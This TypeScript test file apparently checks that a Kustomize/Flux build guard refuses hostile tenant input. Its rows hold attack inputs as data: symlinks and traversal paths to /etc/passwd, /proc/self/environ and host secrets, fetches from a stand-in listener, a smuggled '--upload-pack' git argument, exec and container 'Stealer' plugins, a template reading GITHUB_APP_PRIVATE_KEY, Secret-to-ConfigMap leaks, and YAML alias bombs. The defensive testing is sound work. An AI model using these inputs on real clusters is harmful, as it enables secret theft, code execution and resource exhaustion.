// Group B: what a kustomization may name, run and leave behind.
import { canary, configMap, type Files, yaml } from '../fleet.ts';
import type { Row } from './arena.ts';

const kustomize = (fields: object): string => yaml({ resources: ['app.yaml'], ...fields });
const deploy = (fields: object, files: Files = {}): Files => ({
  'deploy/kustomization.yaml': kustomize(fields),
  ...files,
});
const widget = { apiVersion: 'example.com/v1', kind: 'Widget', metadata: { name: 'x', namespace: 'a-dev' } };
const component = (fields: object): string =>
  yaml({ apiVersion: 'kustomize.config.k8s.io/v1alpha1', kind: 'Component', ...fields });
const secret = (values: object) => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 's', namespace: 'a-dev' },
  ...values,
});

const refusedLink = (title: string, links: Readonly<Record<string, string>>, files: Files = {}): Row => ({
  id: '056',
  title,
  files,
  links,
  expect: { exit: 2, codes: ['build.refused'], says: /symlink|symbolic link/ },
});

const symlinks: readonly Row[] = [
  refusedLink(
    'a link to the folder of another tenant',
    { 'deploy/base': '../../b/deploy' },
    deploy({ resources: ['base'] }),
  ),
  refusedLink(
    'a link to a file of the host',
    { 'deploy/host.yaml': '@FOLDER@/host-secret.yaml' },
    deploy({ resources: ['host.yaml'] }),
  ),
  refusedLink('a link beside the manifests', { 'deploy/host.yaml': '../../host-secret.yaml' }),
  refusedLink('a link as the kustomization itself', { 'deploy/kustomization.yaml': '../../host-secret.yaml' }),
  refusedLink(
    'a link inside the repository',
    { 'deploy/base': '../elsewhere' },
    {
      ...deploy({ resources: ['base'] }),
      'elsewhere/kustomization.yaml': yaml({ resources: [] }),
    },
  ),
  refusedLink(
    'a link in the middle of a path',
    { 'deploy/up': '../..' },
    deploy({ resources: ['up/b/deploy/app.yaml'] }),
  ),
  refusedLink('a link to itself', { 'deploy/self': 'self' }, deploy({ resources: ['self'] })),
  refusedLink(
    'a link for a generator',
    { 'deploy/token': '@FOLDER@/host-secret.yaml' },
    deploy({ configMapGenerator: [{ name: 'x', files: ['token'] }] }),
  ),
  refusedLink(
    'a link for a patch',
    { 'deploy/patch.yaml': '../../host-secret.yaml' },
    deploy({ patches: [{ path: 'patch.yaml' }] }),
  ),
  {
    id: '056',
    title: 'the whole folder is a link',
    links: { other: '../b/deploy' },
    input: yaml(child('x', { path: './other' })),
    expect: { exit: 2, codes: ['build.refused'] },
  },
];

function child(name: string, spec: object): object {
  return {
    apiVersion: 'kustomize.toolkit.fluxcd.io/v1',
    kind: 'Kustomization',
    metadata: { name, namespace: 'a-dev' },
    spec: {
      interval: '10m',
      prune: true,
      serviceAccountName: 'deployer',
      sourceRef: { kind: 'GitRepository', name: 'a' },
      ...spec,
    },
  };
}

/** Spellings of what is not in the repository, some with the canary's address. */
const spellings: readonly (readonly [string, string])[] = [
  ['057', 'file:///var/cache/repos/tenant-b//base'],
  ['057', 'file://@FOLDER@/b//deploy'],
  ['057', 'file:@FOLDER@/b'],
  ['059', 'https://@LISTENER@/x.yaml'],
  ['059', 'http://@LISTENER@/x.yaml'],
  ['059', 'HTTP://@LISTENER@/x.yaml'],
  ['059', ' http://@LISTENER@/x.yaml'],
  ['062', 'git@@LISTENER@:org/repo'],
  ['062', 'ssh://git@@LISTENER@/org/repo'],
  ['062', 'git::http://@LISTENER@/org/repo'],
  ['062', 'git::https://@LISTENER@/org/repo?ref=main'],
  ['062', 'host.xz/org/repo.git'],
  ['062', 'host.xz/org/repo.git//base?ref=v1'],
  ['062', 'github.com/org/repo'],
  ['062', 'GitHub.com/org/repo//x'],
  ['062', 'gh:org/repo'],
  ['062', 'org-12345@github.com:org/repo'],
  ['062', 'http://@LISTENER@/org/_git/repo'],
  ['062', 'host.xz/org/_git/repo'],
  ['062', '//@LISTENER@/x.yaml'],
  ['062', 'http:@LISTENER@/x.yaml'],
  ['062', 'http:\\\\@LISTENER@\\x.yaml'],
  ['062', 'oci://@LISTENER@/x'],
  ['062', 's3::http://@LISTENER@/bucket'],
  ['062', 'http://@LISTENER@/org/repo?ref=--upload-pack=touch%20x'],
];

/** As a resource, and through a component, so that no folder is trusted more than another. */
const remotes: readonly Row[] = spellings.flatMap(([id, name]): Row[] => [
  {
    id,
    title: `a resource ${name}`,
    files: deploy({ resources: ['app.yaml', name] }),
    expect: { exit: 2, codes: ['build.remote'], at: 'deploy/kustomization.yaml:1' },
  },
]);

/** Every field that takes a path; `remote` stands where the path would. */
const fields: readonly (readonly [string, (remote: string) => object])[] = [
  ['resources', (remote) => ({ resources: [remote] })],
  ['bases', (remote) => ({ bases: [remote] })],
  ['components', (remote) => ({ components: [remote] })],
  ['patches', (remote) => ({ patches: [{ path: remote }] })],
  ['patchesStrategicMerge', (remote) => ({ patchesStrategicMerge: [remote] })],
  [
    'patchesJson6902',
    (remote) => ({ patchesJson6902: [{ target: { version: 'v1', kind: 'ConfigMap', name: 'app' }, path: remote }] }),
  ],
  ['configurations', (remote) => ({ configurations: [remote] })],
  ['crds', (remote) => ({ crds: [remote] })],
  ['replacements', (remote) => ({ replacements: [{ path: remote }] })],
  ['configMapGenerator files', (remote) => ({ configMapGenerator: [{ name: 'x', files: [remote] }] })],
  ['configMapGenerator key', (remote) => ({ configMapGenerator: [{ name: 'x', files: [`key=${remote}`] }] })],
  ['configMapGenerator envs', (remote) => ({ configMapGenerator: [{ name: 'x', envs: [remote] }] })],
  ['configMapGenerator env', (remote) => ({ configMapGenerator: [{ name: 'x', env: remote }] })],
  ['secretGenerator files', (remote) => ({ secretGenerator: [{ name: 'x', files: [remote] }] })],
  ['secretGenerator envs', (remote) => ({ secretGenerator: [{ name: 'x', envs: [remote] }] })],
  ['transformers', (remote) => ({ transformers: [remote] })],
  ['generators', (remote) => ({ generators: [remote] })],
  ['validators', (remote) => ({ validators: [remote] })],
  [
    'builtin PatchTransformer',
    (remote) => ({
      transformers: [yaml({ apiVersion: 'builtin', kind: 'PatchTransformer', metadata: { name: 'x' }, path: remote })],
    }),
  ],
  [
    'builtin ConfigMapGenerator',
    (remote) => ({
      generators: [
        yaml({ apiVersion: 'builtin', kind: 'ConfigMapGenerator', metadata: { name: 'x' }, files: [remote] }),
      ],
    }),
  ],
  [
    'builtin SecretGenerator',
    (remote) => ({
      generators: [yaml({ apiVersion: 'builtin', kind: 'SecretGenerator', metadata: { name: 'x' }, envs: [remote] })],
    }),
  ],
  [
    'builtin PatchStrategicMergeTransformer',
    (remote) => ({
      transformers: [
        yaml({
          apiVersion: 'builtin',
          kind: 'PatchStrategicMergeTransformer',
          metadata: { name: 'x' },
          paths: [remote],
        }),
      ],
    }),
  ],
  [
    'builtin ReplacementTransformer',
    (remote) => ({
      transformers: [
        yaml({
          apiVersion: 'builtin',
          kind: 'ReplacementTransformer',
          metadata: { name: 'x' },
          replacements: [{ path: remote }],
        }),
      ],
    }),
  ],
];

const inFields: readonly Row[] = [
  ...fields.map(
    ([field, make]): Row => ({
      id: '061',
      title: `an address in ${field}`,
      files: deploy(make('http://@LISTENER@/x.yaml')),
      expect: { exit: 2, codes: ['build.remote'] },
    }),
  ),
  {
    id: '061',
    title: 'an address in openapi',
    files: deploy({ openapi: { path: 'http://@LISTENER@/x.json' } }),
    expect: { exit: 2, codes: ['build.openapi'] },
  },
  ...fields.map(
    ([field, make]): Row => ({
      id: '072',
      title: `a file of the host in ${field}`,
      files: deploy(make('@FOLDER@/host-secret.yaml')),
      expect: { exit: 2, codes: ['build.escape'] },
    }),
  ),
  ...[
    '../../host-secret.yaml',
    '../../../../../../../../etc/passwd',
    '../../../proc/self/environ',
    '/etc/passwd',
    '/proc/self/environ',
    './../../b/deploy/app.yaml',
    'x/../../../host-secret.yaml',
    'app.yaml\0.txt',
    '',
  ].map(
    (name): Row => ({
      id: '072',
      title: `a generator of ${JSON.stringify(name)}`,
      files: deploy({ configMapGenerator: [{ name: 'x', namespace: 'a-dev', files: [`key=${name}`] }] }),
      expect: { exit: 2 },
    }),
  ),
  ...['../../b/deploy', '../../b', '..', '../..', '/', '/tree'].map(
    (name): Row => ({
      id: '056',
      title: `the base ${name}`,
      files: deploy({ resources: ['app.yaml', name] }),
      expect: { exit: 2 },
    }),
  ),
  {
    id: '061',
    title: 'an address three folders down, in a file of another name',
    files: {
      ...deploy({ components: ['one'] }),
      'deploy/one/kustomization.yml': component({ resources: ['two'] }),
      'deploy/one/two/Kustomization': yaml({ resources: ['three'] }),
      'deploy/one/two/three/kustomization.yaml': yaml({ resources: ['http://@LISTENER@/x.yaml'] }),
    },
    expect: { exit: 2, codes: ['build.remote'], at: 'deploy/one/two/three/kustomization.yaml:1' },
  },
  {
    id: '061',
    title: 'an address in a child Kustomization of Flux',
    files: { 'other/kustomization.yaml': yaml({ resources: ['http://@LISTENER@/x.yaml'] }) },
    input: yaml(child('x', { path: './other' })),
    expect: { exit: 2, codes: ['build.remote'] },
  },
  {
    id: '061',
    title: 'an address among the components of a child Kustomization of Flux',
    files: { 'other/app.yaml': yaml(configMap('other', 'a-dev')) },
    input: yaml(child('x', { path: './other', components: ['http://@LISTENER@/x'] })),
    expect: { exit: 2, codes: ['build.remote'] },
  },
];

const helm = (fields: object): Row['expect'] => ({ exit: 2, codes: ['build.helm'], ...fields });
const plugin: Row['expect'] = { exit: 2, codes: ['build.plugin'] };
const stealer = (annotations: object = {}, apiVersion = 'example.com/v1'): string =>
  yaml({ apiVersion, kind: 'Stealer', metadata: { name: 'x', annotations } });

const programs: readonly Row[] = [
  {
    id: '064',
    title: 'helmCharts with a template in its name',
    files: deploy({
      helmCharts: [{ name: 'x', repo: 'http://@LISTENER@', nameTemplate: '{{ env "GITHUB_APP_PRIVATE_KEY" }}' }],
    }),
    expect: helm({}),
  },
  { id: '064', title: 'helmGlobals', files: deploy({ helmGlobals: { configHome: '@FOLDER@' } }), expect: helm({}) },
  {
    id: '064',
    title: 'helmCharts in another case, in a component',
    files: {
      ...deploy({ components: ['part'] }),
      'deploy/part/kustomization.yaml': component({ HelmCharts: [{ name: 'x' }] }),
    },
    expect: { exit: 2 },
  },
  {
    id: '064',
    title: 'helmChartInflationGenerator',
    files: deploy({ helmChartInflationGenerator: [{ chartName: 'x' }] }),
    expect: helm({}),
  },
  {
    id: '066',
    title: 'a Go or exec plugin as generator',
    files: deploy({ generators: ['plugin.yaml'] }, { 'deploy/plugin.yaml': stealer() }),
    expect: plugin,
  },
  { id: '066', title: 'a plugin as transformer, inline', files: deploy({ transformers: [stealer()] }), expect: plugin },
  {
    id: '066',
    title: 'a plugin as validator, in a folder',
    files: deploy(
      { validators: ['v'] },
      { 'deploy/v/kustomization.yaml': yaml({ resources: ['plugin.yaml'] }), 'deploy/v/plugin.yaml': stealer() },
    ),
    expect: plugin,
  },
  {
    id: '066',
    title: 'an exec function',
    files: deploy(
      { generators: [stealer({ 'config.kubernetes.io/function': 'exec:\n  path: ./steal.sh\n' })] },
      { 'deploy/steal.sh': '#!/bin/sh\n' },
    ),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a container function by the old name',
    files: deploy({ transformers: [stealer({ 'config.k8s.io/function': 'container:\n  image: evil\n' })] }),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a function around a builtin name',
    files: deploy({ transformers: [stealer({ 'config.kubernetes.io/function': 'exec:\n  path: ./x\n' }, 'builtin')] }),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a starlark function',
    files: deploy({
      transformers: [stealer({ 'config.kubernetes.io/function': 'starlark:\n  url: http://@LISTENER@/x.star\n' })],
    }),
    expect: plugin,
  },
  {
    id: '066',
    title: 'a plugin that a generator generates',
    files: deploy(
      { generators: ['gen'] },
      {
        'deploy/gen/kustomization.yaml': yaml({
          resources: ['p.yaml'],
          patches: [
            {
              target: { kind: 'ConfigMapGenerator' },
              patch: yaml([
                { op: 'replace', path: '/kind', value: 'Stealer' },
                { op: 'replace', path: '/apiVersion', value: 'example.com/v1' },
              ]),
              options: { allowKindChange: true },
            },
          ],
        }),
        'deploy/gen/p.yaml': yaml({
          apiVersion: 'builtin',
          kind: 'ConfigMapGenerator',
          metadata: { name: 'x' },
          literals: ['a=b'],
        }),
      },
    ),
    expect: { exit: 2 },
  },
  {
    id: '067',
    title: 'the builtin Helm generator',
    files: deploy({
      generators: [
        yaml({
          apiVersion: 'builtin',
          kind: 'HelmChartInflationGenerator',
          metadata: { name: 'x' },
          name: 'x',
          repo: 'http://@LISTENER@',
        }),
      ],
    }),
    expect: helm({}),
  },
  {
    id: '067',
    title: 'the builtin Helm generator that a patch makes',
    files: deploy(
      { generators: ['gen'] },
      {
        'deploy/gen/kustomization.yaml': yaml({
          resources: ['p.yaml'],
          patches: [
            {
              target: { kind: 'ConfigMapGenerator' },
              patch: yaml([{ op: 'replace', path: '/kind', value: 'HelmChartInflationGenerator' }]),
              options: { allowKindChange: true },
            },
          ],
        }),
        'deploy/gen/p.yaml': yaml({
          apiVersion: 'builtin',
          kind: 'ConfigMapGenerator',
          metadata: { name: 'x' },
          name: 'x',
          repo: 'http://@LISTENER@',
        }),
      },
    ),
    expect: { exit: 2 },
  },
  {
    id: '067',
    title: 'a builtin generator whose file a patch changes to an address',
    files: deploy(
      { generators: ['gen'] },
      {
        'deploy/gen/kustomization.yaml': yaml({
          resources: ['p.yaml'],
          patches: [
            {
              target: { kind: 'ConfigMapGenerator' },
              patch: yaml([{ op: 'add', path: '/files', value: ['http://@LISTENER@/x', '/etc/passwd'] }]),
            },
          ],
        }),
        'deploy/gen/p.yaml': yaml({
          apiVersion: 'builtin',
          kind: 'ConfigMapGenerator',
          metadata: { name: 'x' },
          literals: ['a=b'],
        }),
      },
    ),
    expect: { exit: 2 },
  },
];

const shapes: readonly Row[] = [
  {
    id: '069',
    title: 'a namespace transformer over cluster-scoped objects',
    files: deploy(
      { namespace: 'a-dev', resources: ['app.yaml', 'case.yaml'] },
      {
        'deploy/case.yaml': yaml(
          { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'c-new' } },
          { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'c' }, rules: [] },
          { apiVersion: 'example.com/v1', kind: 'Realm', metadata: { name: 'r' } },
        ),
      },
    ),
    expect: { exit: 1, rules: ['tenant/cluster-scoped'], objects: 3 },
  },
  {
    id: '069',
    title: 'the same by targetNamespace of a child Kustomization of Flux',
    files: { 'other/case.yaml': yaml({ apiVersion: 'example.com/v1', kind: 'Realm', metadata: { name: 'r' } }) },
    input: yaml(child('x', { path: './other', targetNamespace: 'a-dev' })),
    expect: { exit: 1, rules: ['tenant/cluster-scoped'] },
  },
  ...(
    [
      [
        'a replacement into a ConfigMap',
        {
          replacements: [
            {
              source: { kind: 'Secret', name: 's', fieldPath: 'stringData.pw' },
              targets: [{ select: { kind: 'ConfigMap', name: 'app' }, fieldPaths: ['data.key'] }],
            },
          ],
        },
      ],
      [
        'a replacement into an annotation',
        {
          replacements: [
            {
              source: { kind: 'Secret', name: 's', fieldPath: 'stringData.pw' },
              targets: [
                {
                  select: { kind: 'ConfigMap', name: 'app' },
                  fieldPaths: ['metadata.annotations.x'],
                  options: { create: true },
                },
              ],
            },
          ],
        },
      ],
      [
        'a replacement of a part, with a delimiter',
        {
          replacements: [
            {
              source: { kind: 'Secret', name: 's', fieldPath: 'stringData.pw', options: { delimiter: '-', index: 1 } },
              targets: [{ select: { kind: 'ConfigMap', name: 'app' }, fieldPaths: ['data.key'] }],
            },
          ],
        },
      ],
      ['a replacement in a file', { replacements: [{ path: 'r.yaml' }] }],
      [
        'vars',
        {
          vars: [
            {
              name: 'PW',
              objref: { apiVersion: 'v1', kind: 'Secret', name: 's' },
              fieldref: { fieldpath: 'stringData.pw' },
            },
          ],
          commonAnnotations: { x: '$(PW)' },
          configurations: ['c.yaml'],
        },
      ],
      [
        'a change of kind',
        {
          patches: [
            {
              target: { kind: 'Secret' },
              patch: yaml([
                { op: 'replace', path: '/kind', value: 'ConfigMap' },
                { op: 'move', from: '/stringData', path: '/data' },
              ]),
              options: { allowKindChange: true },
            },
          ],
        },
      ],
      [
        'a JSON patch that moves it to an annotation',
        {
          patches: [
            {
              target: { kind: 'Secret' },
              patch: yaml([
                { op: 'add', path: '/metadata/annotations', value: {} },
                { op: 'copy', from: '/stringData/pw', path: '/metadata/annotations/x' },
              ]),
            },
          ],
        },
      ],
    ] as const
  ).map(
    ([title, more]): Row => ({
      id: '071',
      title,
      files: deploy(
        { resources: ['app.yaml', 'secret.yaml'], ...more },
        {
          'deploy/secret.yaml': yaml(secret({ stringData: { pw: canary } })),
          'deploy/r.yaml': yaml({
            source: { kind: 'Secret', name: 's', fieldPath: 'stringData.pw' },
            targets: [{ select: { kind: 'ConfigMap', name: 'app' }, fieldPaths: ['data.key'] }],
          }),
          'deploy/c.yaml': yaml({ varReference: [{ path: 'metadata/annotations', kind: 'ConfigMap' }] }),
        },
      ),
      expect: { exit: title.startsWith('a change of kind') ? 0 : 1 },
    }),
  ),
  {
    id: '071',
    title: 'a replacement whose Secret an overlay takes away',
    files: deploy(
      {
        resources: ['base'],
        patches: [
          {
            patch: yaml({
              $patch: 'delete',
              apiVersion: 'v1',
              kind: 'Secret',
              metadata: { name: 's', namespace: 'a-dev' },
            }),
          },
        ],
      },
      {
        'deploy/base/kustomization.yaml': yaml({
          resources: ['app.yaml', 'secret.yaml'],
          replacements: [
            {
              source: { kind: 'Secret', name: 's', fieldPath: 'stringData.pw' },
              targets: [{ select: { kind: 'ConfigMap' }, fieldPaths: ['data.key'] }],
            },
          ],
        }),
        'deploy/base/app.yaml': yaml(configMap('app', 'a-dev')),
        'deploy/base/secret.yaml': yaml(secret({ stringData: { pw: canary } })),
      },
    ),
    expect: { exit: 0, shows: ['ConfigMap/a-dev/app'], diff: /\*\*\*/ },
  },
  {
    id: '071',
    title: 'a generated Secret that becomes a ConfigMap',
    files: deploy({
      secretGenerator: [{ name: 'g', namespace: 'a-dev', literals: [`pw=${canary}`] }],
      patches: [
        {
          target: { kind: 'Secret' },
          patch: yaml([{ op: 'replace', path: '/kind', value: 'ConfigMap' }]),
          options: { allowKindChange: true },
        },
      ],
    }),
    expect: { exit: 0, diff: /\*\*\*/ },
  },
  {
    id: '071',
    title: 'a value that a JSON patch gives a Secret that becomes a ConfigMap',
    files: deploy(
      {
        resources: ['app.yaml', 'secret.yaml'],
        patches: [
          {
            target: { kind: 'Secret' },
            patch: yaml([
              { op: 'add', path: '/stringData/pw', value: canary },
              { op: 'replace', path: '/kind', value: 'ConfigMap' },
              { op: 'move', from: '/stringData', path: '/data' },
            ]),
            options: { allowKindChange: true },
          },
        ],
      },
      { 'deploy/secret.yaml': yaml(secret({ stringData: { other: 'x' } })) },
    ),
    expect: { exit: 0 },
  },
  {
    id: '074',
    title: 'two kustomization files',
    files: { ...deploy({}), 'deploy/kustomization.yml': kustomize({}) },
    expect: { exit: 2, codes: ['build.ambiguous'] },
  },
  {
    id: '074',
    title: 'two kustomization files of other names, in a base',
    files: deploy(
      { resources: ['app.yaml', 'base'] },
      {
        'deploy/base/Kustomization': yaml({ resources: [] }),
        'deploy/base/kustomization.yml': yaml({ resources: [] }),
      },
    ),
    expect: { exit: 2, codes: ['build.ambiguous'] },
  },
  {
    id: '074',
    title: 'a scan of the third name',
    files: { 'deploy/Kustomization': kustomize({ resources: ['http://@LISTENER@/x.yaml'] }) },
    expect: { exit: 2, codes: ['build.remote'] },
  },
  {
    id: '079',
    title: 'openapi that changes merge keys',
    files: deploy({ openapi: { path: 'schema.json' } }, { 'deploy/schema.json': '{"definitions":{}}' }),
    expect: { exit: 2, codes: ['build.openapi'] },
  },
  {
    id: '079',
    title: 'openapi of a version, in another case, in a component',
    files: {
      ...deploy({ components: ['part'] }),
      'deploy/part/kustomization.yaml': component({ openapi: { version: 'v1.20.4' } }),
    },
    expect: { exit: 2, codes: ['build.openapi'] },
  },
  ...['', '/'].map(
    (path): Row => ({
      id: '081',
      title: `the path ${JSON.stringify(path)}, which is the repository's own root`,
      input: yaml(child('x', { path })),
      expect: { exit: 1, rules: ['tenant/duplicate'] },
    }),
  ),
  ...[
    '--enable-helm',
    'https://@LISTENER@/repo',
    '.\0',
    '/etc',
    '..',
    '../b/deploy',
    './deploy/../../b',
    '.git',
    'nowhere',
    '${NOWHERE}',
  ].map(
    (path): Row => ({
      id: '081',
      title: `the path ${JSON.stringify(path)}`,
      input: yaml(child('x', { path })),
      expect: { exit: 2 },
    }),
  ),
  {
    id: '082',
    title: 'origin annotations, asked for and faked',
    files: deploy(
      {
        resources: ['app.yaml', 'case.yaml'],
        buildMetadata: ['originAnnotations', 'transformerAnnotations', 'managedByLabel'],
      },
      {
        'deploy/case.yaml': yaml({
          ...widget,
          metadata: {
            ...widget.metadata,
            annotations: {
              'internal.config.kubernetes.io/path': '@FOLDER@/x',
              'config.kubernetes.io/origin': 'path: ../../b/deploy/app.yaml\n',
            },
          },
        }),
      },
    ),
    expect: { exit: 0, shows: ['Widget/a-dev/x'] },
  },
  {
    id: '084',
    title: 'a patch that deletes everything',
    files: deploy({
      patches: [
        {
          target: { kind: '.*' },
          patch: yaml({ $patch: 'delete', apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x' } }),
        },
      ],
    }),
    expect: { exit: 2, codes: ['build.empty'] },
  },
  {
    id: '084',
    title: 'no resources',
    files: { 'deploy/kustomization.yaml': yaml({ resources: [] }) },
    expect: { exit: 2, codes: ['build.empty'] },
  },
  {
    id: '084',
    title: 'only objects that stay local',
    files: deploy(
      {},
      {
        'deploy/app.yaml': yaml({
          ...configMap('app', 'a-dev'),
          metadata: { name: 'app', namespace: 'a-dev', annotations: { 'config.kubernetes.io/local-config': 'true' } },
        }),
      },
    ),
    expect: { exit: 2, codes: ['build.empty'] },
  },
];

/** `levels` anchors, each a list of nine of the one before. */
function bomb(levels: number): string {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x]'];
  for (let level = 1; level <= levels; level++)
    lines.push(`a${level}: &a${level} [${Array.from({ length: 9 }, () => `*a${level - 1}`).join(', ')}]`);
  return lines.map((line) => `  ${line}`).join('\n');
}

/** Each folder takes the one below twice, under two prefixes: 2^depth objects. */
function diamond(depth: number): Files {
  const files: Record<string, string> = {
    'deploy/l0/kustomization.yaml': yaml({ resources: ['app.yaml'] }),
    'deploy/l0/app.yaml': yaml(configMap('x', 'a-dev')),
  };
  for (let level = 1; level <= depth; level++) {
    for (const side of ['a', 'b'])
      files[`deploy/l${level}${side}/kustomization.yaml`] = yaml({
        namePrefix: `${side}-`,
        resources: [`../l${level - 1}`],
      });
    files[`deploy/l${level}/kustomization.yaml`] = yaml({ resources: [`../l${level}a`, `../l${level}b`] });
  }
  return { ...files, 'deploy/kustomization.yaml': yaml({ resources: [`l${depth}`] }) };
}

const exhaustion: readonly Row[] = [
  {
    id: '076',
    title: 'an alias bomb in a resource',
    input: `apiVersion: example.com/v1\nkind: Widget\nmetadata: {name: x, namespace: a-dev}\nspec:\n${bomb(9)}\n`,
    expect: { exit: 2, codes: ['build.alias'] },
  },
  {
    id: '076',
    title: 'an alias bomb in a patch',
    files: deploy(
      { patches: [{ path: 'p.yaml' }] },
      { 'deploy/p.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: app}\ndata:\n${bomb(9)}\n` },
    ),
    expect: { exit: 2, codes: ['build.alias'] },
  },
  {
    id: '076',
    title: 'an alias bomb in the kustomization file',
    files: { 'deploy/kustomization.yaml': `resources: [app.yaml]\nx:\n${bomb(9)}\n` },
    expect: { exit: 2, codes: ['build.alias'] },
  },
  {
    id: '076',
    title: 'an alias bomb in a patch inside the kustomization file',
    files: deploy({
      patches: [{ patch: `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: app}\ndata:\n${bomb(9)}\n` }],
    }),
    expect: { exit: 2, codes: ['build.alias'] },
  },
  {
    id: '076',
    title: 'one large scalar repeated',
    input: `apiVersion: example.com/v1\nkind: Widget\nmetadata: {name: x, namespace: a-dev}\nspec:\n  a: &a ${'x'.repeat(100_000)}\n  b: [${Array.from({ length: 99 }, () => '*a').join(', ')}]\n`,
    expect: { exit: 2, codes: ['build.alias'] },
  },
  { id: '077', title: 'a diamond of 2^20 objects', files: diamond(20), expect: { exit: 2 } },
  { id: '077', title: 'a diamond of 2^13 objects', files: diamond(13), expect: { exit: 2 } },
  {
    id: '077',
    title: 'a circle of folders',
    files: deploy(
      { resources: ['app.yaml', 'one'] },
      {
        'deploy/one/kustomization.yaml': yaml({ resources: ['../two'] }),
        'deploy/two/kustomization.yaml': yaml({ resources: ['../one'] }),
      },
    ),
    expect: { exit: 2, codes: ['build.cycle'] },
  },
  {
    id: '077',
    title: 'components that take each other',
    files: {
      ...deploy({ components: ['one'] }),
      'deploy/one/kustomization.yaml': component({ components: ['../two'] }),
      'deploy/two/kustomization.yaml': component({ components: ['../one'] }),
    },
    expect: { exit: 2, codes: ['build.cycle'] },
  },
  {
    id: '077',
    title: 'a diamond by components',
    files: {
      ...diamond(20),
      'deploy/kustomization.yaml': yaml({ components: ['part'] }),
      'deploy/part/kustomization.yaml': component({ resources: ['../l20'] }),
    },
    expect: { exit: 2 },
  },
];

export const remoteRows: readonly Row[] = [...symlinks, ...remotes, ...inFields];
export const kustomizeRows: readonly Row[] = [...programs, ...shapes, ...exhaustion];
